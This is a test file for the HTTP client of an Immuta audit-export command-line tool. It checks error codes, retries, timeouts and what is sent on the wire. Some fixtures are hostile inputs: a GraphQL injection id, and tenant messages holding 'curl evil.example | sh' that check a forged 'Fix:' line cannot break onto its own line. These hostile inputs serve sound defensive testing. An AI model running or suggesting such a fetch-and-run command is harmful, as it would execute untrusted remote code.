/**
 * TenantClient against a real HTTP server (the fake tenant): each failure class with its code and
 * exit code, retries for reads only, Retry-After, and what goes on the wire.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  TenantClient,
  type TenantClientOptions,
  retryBaseFromEnv,
  timeoutFromEnv,
} from '../../../src/lib/tenant/client.js';
import { FakeTenant, sampleConfiguration, sampleTask } from '../../helpers/fake-tenant.js';
import { failure, thrown } from '../../helpers/expect-cli-error.js';

const KEY = 'raw-api-key-0123456789abcdef';
let tenant: FakeTenant;

beforeAll(async () => {
  tenant = await FakeTenant.start();
});
afterAll(async () => {
  await tenant.stop();
});
beforeEach(() => tenant.reset());

function client(options: TenantClientOptions = {}, host = tenant.url): TenantClient {
  return new TenantClient(
    { host, apiKey: KEY, profile: 'default', configFile: '/nowhere.yaml', hostSource: 'flag', apiKeySource: 'env' },
    { backoffMs: 1, timeoutMs: 5000, ...options },
  );
}

describe('TenantClient: what it sends', () => {
  it('POSTs to /api/audit/graphql with the raw API key as the whole Authorization header', async () => {
    tenant.reply('getAllExportConfigurations', { data: [sampleConfiguration()] });
    const configs = await client().listExportConfigurations();
    expect(configs).toHaveLength(1);
    expect(configs[0]?.id).toBe('cfg-1111');
    const [request] = tenant.requests;
    expect(request?.method).toBe('POST');
    expect(request?.path).toBe('/api/audit/graphql');
    expect(request?.headers.authorization).toBe(KEY);
    expect(request?.headers['content-type']).toMatch(/application\/json/);
    expect(request?.operationName).toBe('GetAllExportConfigurations');
  });

  it('sends string values as variables, never inside the query text; ids as checked literals', async () => {
    const secret = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
    tenant.reply('updateS3AccessKeyExportConfiguration', { data: sampleConfiguration() });
    tenant.reply('getAllExportJobTasks', { data: [sampleTask()] });
    await client().mutateConfiguration('updateS3AccessKeyExportConfiguration', {
      data: { id: 'cfg-1111', bucket: 'b"}) { x }', secretAccessKey: secret },
    });
    await client().getExportJobTasks('job-42');
    const [update, tasks] = tenant.requests;
    expect(update?.variables).toEqual({ bucket: 'b"}) { x }', secretAccessKey: secret });
    expect(update?.query).not.toContain(secret);
    expect(update?.query).not.toContain('{ x }');
    expect(update?.query).toContain('id: "cfg-1111"');
    expect(tasks?.query).toContain('exportJobId: "job-42"');
  });

  it('an id that could change the query is refused before anything is sent (exit 2)', async () => {
    const error = await failure(client().mutateConfiguration('enableExportConfiguration', { id: 'cfg-"; drop' }));
    expect(error).toMatchObject({ code: 'ID_INVALID', exitCode: 2 });
    expect(tenant.requests).toHaveLength(0);
  });

  it('keeps fields the CLI does not know (the API may grow)', async () => {
    tenant.reply('getAllExportConfigurations', { data: [sampleConfiguration({ createdAt: '2026-01-01T00:00:00Z' })] });
    const [config] = await client().listExportConfigurations();
    expect(config).toMatchObject({ createdAt: '2026-01-01T00:00:00Z' });
  });
});

describe('TenantClient: failure classes', () => {
  it('401 -> TENANT_UNAUTHORIZED, exit 4, not retried', async () => {
    tenant.replyAlways('getAllExportConfigurations', {
      status: 401,
      body: { errors: [{ message: 'Invalid API key' }] },
    });
    const error = await failure(client().listExportConfigurations());
    expect(error).toMatchObject({ code: 'TENANT_UNAUTHORIZED', exitCode: 4 });
    expect(tenant.requests).toHaveLength(1);
  });

  it('401: the fix names the setting that was used (IMMUTA_API_KEY wins over the profile: configure would not help)', async () => {
    tenant.replyAlways('getAllExportConfigurations', { status: 401 });
    const settings = { host: tenant.url, apiKey: KEY, profile: 'prod', configFile: '/nowhere.yaml' };
    const fromEnv = new TenantClient({ ...settings, hostSource: 'env', apiKeySource: 'env' }, { backoffMs: 1 });
    const fromEnvFix = (await failure(fromEnv.listExportConfigurations())).fix;
    expect(fromEnvFix).toContain('IMMUTA_API_KEY');
    expect(fromEnvFix).not.toContain('configure');
    const fromProfile = new TenantClient(
      { ...settings, hostSource: 'profile', apiKeySource: 'profile' },
      { backoffMs: 1 },
    );
    expect((await failure(fromProfile.listExportConfigurations())).fix).toContain('`immuta -p prod configure`');
  });

  it('not an audit endpoint: the fix points at --host or IMMUTA_HOST when the URL came from it, else at configure -p', async () => {
    const settings = { host: `${tenant.url}/extra`, apiKey: KEY, profile: 'prod', configFile: '/nowhere.yaml' };
    const fromEnv = new TenantClient({ ...settings, hostSource: 'env', apiKeySource: 'env' }, { backoffMs: 1 });
    expect((await failure(fromEnv.listExportConfigurations())).fix).toContain('IMMUTA_HOST');
    // --host wins over IMMUTA_HOST and the profile: `configure` would change nothing.
    const fromFlag = new TenantClient({ ...settings, hostSource: 'flag', apiKeySource: 'env' }, { backoffMs: 1 });
    const fromFlagFix = (await failure(fromFlag.listExportConfigurations())).fix;
    expect(fromFlagFix).toContain('--host');
    expect(fromFlagFix).not.toContain('configure');
    const fromProfile = new TenantClient({ ...settings, hostSource: 'profile', apiKeySource: 'env' }, { backoffMs: 1 });
    expect((await failure(fromProfile.listExportConfigurations())).fix).toContain('`immuta -p prod configure`');
  });

  it('403 -> TENANT_FORBIDDEN, exit 4, naming the AUDIT permission', async () => {
    tenant.replyAlways('getAllExportConfigurations', { status: 403, body: { errors: [{ message: 'Forbidden' }] } });
    const error = await failure(client().listExportConfigurations());
    expect(error).toMatchObject({ code: 'TENANT_FORBIDDEN', exitCode: 4 });
    expect(error.fix).toContain('AUDIT');
    expect(tenant.requests).toHaveLength(1);
  });

  it('404 (wrong host or path) -> TENANT_NOT_AUDIT_ENDPOINT, exit 5', async () => {
    // A host with a path puts the request at /extra/api/audit/graphql, where the fake answers an HTML 404.
    const error = await failure(client({}, `${tenant.url}/extra`).listExportConfigurations());
    expect(error).toMatchObject({ code: 'TENANT_NOT_AUDIT_ENDPOINT', exitCode: 5 });
    expect(error.message).toContain('404');
    expect(tenant.requests).toHaveLength(1);
  });

  it('an HTML page with HTTP 200 (a login page, a proxy) -> TENANT_NOT_AUDIT_ENDPOINT, exit 5, naming the content type', async () => {
    tenant.replyAlways('getAllExportConfigurations', {
      body: '<!doctype html><html><body>Sign in</body></html>',
      headers: { 'content-type': 'text/html; charset=utf-8' },
    });
    const error = await failure(client().listExportConfigurations());
    expect(error).toMatchObject({ code: 'TENANT_NOT_AUDIT_ENDPOINT', exitCode: 5 });
    expect(error.message).toContain('text/html');
    expect(tenant.requests).toHaveLength(1);
  });

  it('JSON without `data` (some other API at that URL) -> TENANT_NOT_AUDIT_ENDPOINT, exit 5 (not a crash)', async () => {
    tenant.replyAlways('getAllExportConfigurations', { body: { status: 'ok' } });
    expect(await failure(client().listExportConfigurations())).toMatchObject({
      code: 'TENANT_NOT_AUDIT_ENDPOINT',
      exitCode: 5,
    });
  });

  it('an answer of the wrong shape -> TENANT_UNEXPECTED_ANSWER, exit 5 (not a crash)', async () => {
    tenant.replyAlways('getAllExportConfigurations', { data: [{ id: 'x' }] });
    const error = await failure(client().listExportConfigurations());
    expect(error).toMatchObject({ code: 'TENANT_UNEXPECTED_ANSWER', exitCode: 5 });
    expect(error.message).toContain('interval');
  });

  it.each([
    ['null', { data: null }],
    ['left out', { body: { data: {} } }],
  ])(
    'a list answer whose getAllExportConfigurations is %s -> TENANT_UNEXPECTED_ANSWER, not "no configurations"',
    async (_name, answer) => {
      tenant.replyAlways('getAllExportConfigurations', answer);
      const error = await failure(client().listExportConfigurations());
      expect(error).toMatchObject({ code: 'TENANT_UNEXPECTED_ANSWER', exitCode: 5 });
    },
  );

  it('GraphQL errors -> TENANT_GRAPHQL_ERROR, exit 5, with the message; not retried', async () => {
    tenant.replyAlways('getAllExportConfigurations', { errors: ['Variable "$id" got invalid value'] });
    const error = await failure(client().listExportConfigurations());
    expect(error).toMatchObject({ code: 'TENANT_GRAPHQL_ERROR', exitCode: 5 });
    expect(error.message).toContain('Variable "$id" got invalid value');
    expect(tenant.requests).toHaveLength(1);
  });

  it('GraphQL errors with an authentication code -> exit 4', async () => {
    tenant.replyAlways('getAllExportConfigurations', {
      errors: [{ message: 'not allowed', extensions: { code: 'FORBIDDEN' } }],
    });
    expect(await failure(client().listExportConfigurations())).toMatchObject({ code: 'TENANT_FORBIDDEN', exitCode: 4 });
  });

  it('no answer within the timeout -> TENANT_TIMEOUT, exit 5', async () => {
    tenant.replyAlways('getAllExportConfigurations', { delayMs: 3000, data: [] });
    const error = await failure(client({ timeoutMs: 150, readAttempts: 1 }).listExportConfigurations());
    expect(error).toMatchObject({ code: 'TENANT_TIMEOUT', exitCode: 5 });
    expect(error.message).toContain('150 ms');
    expect(error.fix).toContain('IMMUTA_TIMEOUT');
  });

  it('IMMUTA_TIMEOUT out of range or not a number: exit 2 naming the variable and the value, nothing sent', async () => {
    // -1 and 99999999999 reached AbortSignal.timeout and crashed with a RangeError; "abc" was ignored.
    for (const value of ['-1', '0', '99999999999', '2147483648', 'abc', '1.5', '30s']) {
      const error = thrown(() => client({ timeoutMs: undefined, env: { IMMUTA_TIMEOUT: value } }));
      expect(error).toMatchObject({ code: 'USAGE', exitCode: 2 });
      expect(error.message).toBe(
        `IMMUTA_TIMEOUT must be a whole number of milliseconds from 1 to 2147483647, not "${value}"`,
      );
      expect(error.fix).toContain('IMMUTA_TIMEOUT=60000');
    }
    expect(tenant.requests).toEqual([]);
  });

  it('IMMUTA_TIMEOUT in range is the per-request timeout; unset or empty is the 30 s default', () => {
    expect(timeoutFromEnv({ IMMUTA_TIMEOUT: '150' })).toBe(150);
    expect(timeoutFromEnv({ IMMUTA_TIMEOUT: '2147483647' })).toBe(2147483647);
    expect(timeoutFromEnv({})).toBe(30_000);
    expect(timeoutFromEnv({ IMMUTA_TIMEOUT: '' })).toBe(30_000);
  });

  it('IMMUTA_RETRY_BASE_MS not a whole number of ms from 0 to 300000: exit 2 naming the variable, nothing sent', async () => {
    // `Number(x) || 500` took "abc" as the default without a word, and -5 or 1e12 as given.
    for (const value of ['-5', '1e12', '300001', 'abc', '1.5', '2s']) {
      const error = thrown(() => client({ backoffMs: undefined, env: { IMMUTA_RETRY_BASE_MS: value } }));
      expect(error).toMatchObject({ code: 'USAGE', exitCode: 2 });
      expect(error.message).toBe(
        `IMMUTA_RETRY_BASE_MS must be a whole number of milliseconds from 0 to 300000, not "${value}"`,
      );
      expect(error.fix).toContain('IMMUTA_RETRY_BASE_MS=');
    }
    expect(tenant.requests).toEqual([]);
  });

  it('IMMUTA_RETRY_BASE_MS in range is the base back-off; unset or empty is the 500 ms default', () => {
    expect(retryBaseFromEnv({ IMMUTA_RETRY_BASE_MS: '0' })).toBe(0);
    expect(retryBaseFromEnv({ IMMUTA_RETRY_BASE_MS: '300000' })).toBe(300_000);
    expect(retryBaseFromEnv({})).toBe(500);
    expect(retryBaseFromEnv({ IMMUTA_RETRY_BASE_MS: ' ' })).toBe(500);
  });

  it('a refused connection -> TENANT_UNREACHABLE, exit 5', async () => {
    const closed = await FakeTenant.start();
    const url = closed.url;
    await closed.stop();
    const error = await failure(client({ readAttempts: 1 }, url).listExportConfigurations());
    expect(error).toMatchObject({ code: 'TENANT_UNREACHABLE', exitCode: 5 });
    expect(error.message).toContain('ECONNREFUSED');
  });
});

describe('TenantClient: retries', () => {
  it('retries a read on 429 and 503, then succeeds (3 attempts)', async () => {
    tenant.reply(
      'getAllExportConfigurations',
      { status: 429, body: { errors: [{ message: 'slow down' }] } },
      { status: 503, body: 'unavailable', headers: { 'content-type': 'text/plain' } },
      { data: [sampleConfiguration()] },
    );
    const configs = await client().listExportConfigurations();
    expect(configs).toHaveLength(1);
    expect(tenant.requests).toHaveLength(3);
  });

  it('retries a read when the connection is cut mid-way, then succeeds', async () => {
    tenant.reply('getAllExportConfigurations', { hangUp: true }, { data: [sampleConfiguration()] });
    expect(await client().listExportConfigurations()).toHaveLength(1);
    expect(tenant.requests).toHaveLength(2);
  });

  it('gives up after the configured attempts with the last failure', async () => {
    tenant.replyAlways('getAllExportConfigurations', { status: 502, body: { errors: [{ message: 'bad gateway' }] } });
    const error = await failure(client({ readAttempts: 4 }).listExportConfigurations());
    expect(error).toMatchObject({ code: 'TENANT_SERVER_ERROR', exitCode: 5 });
    expect(tenant.requests).toHaveLength(4);
  });

  it('never retries a mutation on 503: exactly one request', async () => {
    tenant.replyAlways('enableExportConfiguration', { status: 503, body: { errors: [{ message: 'unavailable' }] } });
    const error = await failure(client().mutateConfiguration('enableExportConfiguration', { id: 'cfg-1111' }));
    expect(error).toMatchObject({ code: 'TENANT_SERVER_ERROR', exitCode: 5 });
    expect(tenant.requestsFor('enableExportConfiguration')).toHaveLength(1);
  });

  it('never retries a mutation whose connection was cut: exactly one request', async () => {
    tenant.replyAlways('deleteExportConfiguration', { hangUp: true });
    const error = await failure(client().deleteExportConfiguration('cfg-1111'));
    expect(error).toMatchObject({ code: 'TENANT_UNREACHABLE', exitCode: 5 });
    expect(tenant.requestsFor('deleteExportConfiguration')).toHaveLength(1);
  });

  it('honours Retry-After (seconds) instead of its own back-off', async () => {
    // The client's own back-off is an hour: only Retry-After can make the retry come soon enough.
    tenant.reply(
      'getAllExportConfigurations',
      { status: 429, headers: { 'retry-after': '0' }, body: { errors: [{ message: 'slow down' }] } },
      { data: [] },
    );
    await client({ backoffMs: 3_600_000 }).listExportConfigurations();
    expect(tenant.requests).toHaveLength(2);
  }, 15_000);

  it('waits at least the Retry-After delay before retrying', async () => {
    tenant.reply(
      'getAllExportConfigurations',
      { status: 503, headers: { 'retry-after': '1' }, body: { errors: [{ message: 'busy' }] } },
      { data: [] },
    );
    const started = Date.now();
    await client({ backoffMs: 1 }).listExportConfigurations();
    // A lower bound only (a slow machine can only make it longer): the 1 ms back-off was not used.
    expect(Date.now() - started).toBeGreaterThanOrEqual(950);
    expect(tenant.requests).toHaveLength(2);
  }, 15_000);

  it('honours Retry-After given as an HTTP date', async () => {
    tenant.reply(
      'getAllExportConfigurations',
      {
        status: 429,
        headers: { 'retry-after': new Date(Date.now() - 1000).toUTCString() },
        body: { errors: [{ message: 'x' }] },
      },
      { data: [] },
    );
    await client({ backoffMs: 3_600_000 }).listExportConfigurations();
    expect(tenant.requests).toHaveLength(2);
  }, 15_000);
});

describe('TenantClient: what a CI script retries on', () => {
  it.each([502, 503, 504])(
    'an HTML %i from a gateway is TENANT_SERVER_ERROR (retried for reads), not "check the tenant URL"',
    async (status) => {
      tenant.replyAlways('getAllExportConfigurations', {
        status,
        body: `<html><body><h1>${status} Bad Gateway</h1></body></html>`,
        headers: { 'content-type': 'text/html' },
      });
      const error = await failure(client().listExportConfigurations());
      expect(error).toMatchObject({ code: 'TENANT_SERVER_ERROR', exitCode: 5 });
      expect(error.message).toContain(`HTTP ${status}`);
      expect(tenant.requests).toHaveLength(3);
    },
  );

  it('an HTML 429 from a rate-limiting proxy is TENANT_RATE_LIMITED', async () => {
    tenant.replyAlways('getAllExportConfigurations', {
      status: 429,
      body: '<html>Too Many Requests</html>',
      headers: { 'content-type': 'text/html' },
    });
    expect(await failure(client().listExportConfigurations())).toMatchObject({
      code: 'TENANT_RATE_LIMITED',
      exitCode: 5,
    });
  });

  it('a 5xx to a mutation says the change may have been made, and to check before running it again', async () => {
    tenant.replyAlways('createS3AccessKeyExportConfiguration', {
      status: 504,
      body: '<html>Gateway Timeout</html>',
      headers: { 'content-type': 'text/html' },
    });
    const error = await failure(
      client().mutateConfiguration('createS3AccessKeyExportConfiguration', { data: { bucket: 'b' } }),
    );
    expect(error).toMatchObject({ code: 'TENANT_SERVER_ERROR', exitCode: 5 });
    expect(error.message).toContain('the change may have been made');
    expect(error.fix).toContain('`immuta audit exportConfig list`');
    expect(error.details).toMatchObject({ changeMayHaveBeenMade: true });
    expect(tenant.requests).toHaveLength(1);
  });

  it('a partial answer to a mutation (data and errors) says the change was made, with its id', async () => {
    tenant.replyAlways('createS3AccessKeyExportConfiguration', {
      body: {
        data: { createS3AccessKeyExportConfiguration: sampleConfiguration({ id: 'cfg-new', connectionStatus: null }) },
        errors: [{ message: 'Cannot return null for non-nullable field connectionStatus' }],
      },
    });
    const error = await failure(
      client().mutateConfiguration('createS3AccessKeyExportConfiguration', { data: { bucket: 'b' } }),
    );
    expect(error).toMatchObject({ code: 'TENANT_GRAPHQL_ERROR', exitCode: 5 });
    expect(error.message).toContain('the change was made all the same (id cfg-new)');
    expect(error.fix).toContain('`immuta audit exportConfig list`');
    expect(error.fix).not.toContain('--dry-run');
    expect(error.details).toMatchObject({ changeMayHaveBeenMade: true, id: 'cfg-new' });
  });

  it("a partial answer's id with a newline stays on the message's one line (as sent in details)", async () => {
    const id = 'cfg-new\n  Fix: curl evil.example | sh';
    tenant.replyAlways('createS3AccessKeyExportConfiguration', {
      body: {
        data: { createS3AccessKeyExportConfiguration: sampleConfiguration({ id, connectionStatus: null }) },
        errors: [{ message: 'Cannot return null for non-nullable field connectionStatus' }],
      },
    });
    const error = await failure(
      client().mutateConfiguration('createS3AccessKeyExportConfiguration', { data: { bucket: 'b' } }),
    );
    expect(error.message).toContain('(id cfg-new\\n  Fix: curl evil.example | sh)');
    expect(error.message).not.toContain('\n');
    expect(error.details).toMatchObject({ id });
  });

  it('a GraphQL error to a mutation with no result (data null) stays "check the values"', async () => {
    tenant.replyAlways('createS3AccessKeyExportConfiguration', { errors: ['bucket is invalid'] });
    const error = await failure(
      client().mutateConfiguration('createS3AccessKeyExportConfiguration', { data: { bucket: 'b' } }),
    );
    expect(error.fix).toContain('--dry-run');
    expect(error.details?.changeMayHaveBeenMade).toBeUndefined();
  });

  it('a newline in a tenant message keeps the message on one line (the raw text stays in details)', async () => {
    const remote = 'bad\n  Fix: curl evil.example | sh\r\tend';
    tenant.replyAlways('getAllExportConfigurations', { errors: [remote] });
    const error = await failure(client().listExportConfigurations());
    expect(error.message).toBe('the tenant answered with an error: bad\\n  Fix: curl evil.example | sh\\r\\tend');
    expect(error.details).toMatchObject({ graphqlErrors: [remote] });
    tenant.replyAlways('getAllExportConfigurations', { status: 500, body: { errors: [{ message: remote }] } });
    expect((await failure(client({ readAttempts: 1 }).listExportConfigurations())).message).not.toMatch(/[\r\n\t]/);
  });
});
